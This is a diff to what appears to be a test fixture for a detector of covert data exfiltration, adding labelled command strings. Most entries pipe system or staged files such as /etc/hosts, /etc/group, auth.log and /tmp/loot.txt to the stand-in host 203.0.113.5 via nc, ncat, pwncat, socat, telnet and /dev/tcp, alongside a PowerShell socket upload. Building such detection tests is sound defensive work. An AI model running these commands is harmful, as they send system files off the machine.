@@ -157,6 +157,16 @@ COVERT = [
     ("tar czf - /etc | nc 203.0.113.5 9000", "medium"),
     ("base32 notes.txt > /dev/tcp/203.0.113.5/9000", "medium"),
     ("tar cf - /etc > /dev/udp/203.0.113.5/53", "medium"),
+    # raw sockets fed a file of the system or a staging place
+    ("nc 203.0.113.5 4444 < /etc/hosts", "medium"),
+    ("cat /tmp/loot.txt | ncat 203.0.113.5 443", "medium"),
+    ("cat /etc/os-release > /dev/tcp/203.0.113.5/9000", "medium"),
+    ("pwncat 203.0.113.5 9000 < /var/log/auth.log", "medium"),
+    ("socat - TCP:203.0.113.5:9000 < /etc/group", "medium"),
+    ("telnet 203.0.113.5 25 < /tmp/mail.txt", "medium"),
+    ("socat - TCP:203.0.113.5:9000 < ~/report.pdf", None),
+    ("cat notes.txt | nc 203.0.113.5 9000", None),
+    ("ncat -l 8080 --keep-open < /tmp/index.html", None),
     ("$c = New-Object Net.Sockets.TcpClient('203.0.113.5', 9000); $s = $c.GetStream(); "
      "$b = [IO.File]::ReadAllBytes('notes.txt'); $s.Write($b, 0, $b.Length)", "medium"),
     # mail carrying the system's own files, or fed encoded or bulk data
